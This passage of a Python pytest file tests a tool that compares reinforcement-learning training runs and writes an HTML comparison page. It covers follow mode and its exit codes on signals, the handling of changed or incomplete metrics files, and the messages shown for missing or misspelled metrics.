            signal.signal(each, handler)
    assert raised.type is KeyboardInterrupt if number == signal.SIGINT else raised.value.code == 128 + number
    assert [*tmp_path.rglob("*")] == [tmp_path / "runs"]


@pytest.mark.parametrize(("number", "code"), [(signal.SIGINT, 130), (signal.SIGTERM, 143), (signal.SIGHUP, 129)])
def test_following_writes_the_page_again_until_a_signal(
    three: Path, programs: Programs, number: signal.Signals, code: int
) -> None:
    process = programs.start("compare", "runs", "out=x", "follow=true", "every=0.2", cwd=three)
    page = three / "x" / "comparison.html"
    process.until(lambda: "following" in process.stream("out"))
    assert '"reload": 0.2' in page.read_text()
    assert "7 runs" not in page.read_text()
    write_run(three / "runs" / "CartPole-v1" / "dqn3", 3, "dqn")
    process.until(lambda: "7 runs" in page.read_text())
    process.kill(number)
    result = process.wait()
    assert result.code == code
    assert "Traceback" not in result.err
    assert '"reload": 0}' in page.read_text()


def test_following_waits_for_the_first_score(tmp_path: Path, programs: Programs) -> None:
    folder = write_run(tmp_path / "runs" / "a")
    rows = (folder / "metrics.jsonl").read_text()
    (folder / "metrics.jsonl").write_text("")
    process = programs.start("compare", "runs", "out=x", "follow=true", "every=0.2", cwd=tmp_path)
    process.until(lambda: "following" in process.stream("out"))
    (folder / "metrics.jsonl").write_text(rows)
    process.until((tmp_path / "x" / "comparison.html").exists)
    process.kill(signal.SIGINT)
    assert process.wait().code == 130


def test_runs_that_have_not_changed_are_not_read_again(tmp_path: Path) -> None:
    folders = [write_run(tmp_path / name, seed) for seed, name in enumerate("ab")]
    reader = Reader(EVALUATED)
    first = reader(folders)
    assert not reader.changed(folders)
    with (folders[1] / "metrics.jsonl").open("a") as file:
        file.write('{"global_step": 30000, "eval/return_mean": 1.0}\n{"torn')
    assert reader.changed(folders)
    second = reader(folders)
    assert second[0] is first[0]
    assert second[1].step == 30_000
    assert reader.changed(folders[:1])


def test_runs_without_a_score_are_told(tmp_path: Path) -> None:
    write_run(tmp_path / "a")
    write_run(tmp_path / "b", 1, done=0.05)
    found = compare(runs_of(tmp_path), EVALUATED)
    assert any("1 of 2 runs have no eval/return_mean yet" in note for note in found.notes)
    write_run(tmp_path / "c", 2, "dqn", done=0.6)
    notes = compare(runs_of(tmp_path), EVALUATED).notes
    assert "agent=dqn: 1 of 1 runs have not reached their last step." in notes
    with pytest.raises(NothingYetError):
        compare([read_run(tmp_path / "b", EVALUATED)], EVALUATED)


def test_a_value_that_is_not_finite_is_not_one_that_is_missing(tmp_path: Path) -> None:
    path = write_run(tmp_path / "a") / "metrics.jsonl"
    rows = [{**json.loads(row), EVALUATED: None} for row in path.read_text().splitlines()]
    path.write_text("\n".join(map(json.dumps, rows)))
    with pytest.raises(NothingYetError, match=r"^none of the 1 runs has a finite value of eval/return_mean, only NaN"):
        compare(runs_of(tmp_path), EVALUATED)
    write_run(tmp_path / "b", 1)
    write_run(tmp_path / "c", 1, done=0.05)
    notes = compare(runs_of(tmp_path), EVALUATED).notes
    assert "1 of 3 runs have no finite value of eval/return_mean and are left out." in notes
    assert "1 of 3 runs have no eval/return_mean yet and are left out." in notes


@pytest.mark.parametrize(
    ("metric", "advice"),
    [
        ("eval/return_maen", "name a metric that they have; did you mean eval/return_mean, eval/return_std"),
        ("nope", "name a metric that they have, such as eval/return_mean, eval/return_std, noise/action_change$"),
    ],
)
def test_a_metric_that_no_run_has_is_told_with_those_that_they_have(metric: str, advice: str, tmp_path: Path) -> None:
    write_run(tmp_path / "a")
    with pytest.raises(NothingYetError, match=rf"^none of the 1 runs has {metric} yet: {advice}"):
        compare(runs_of(tmp_path, metric), metric)
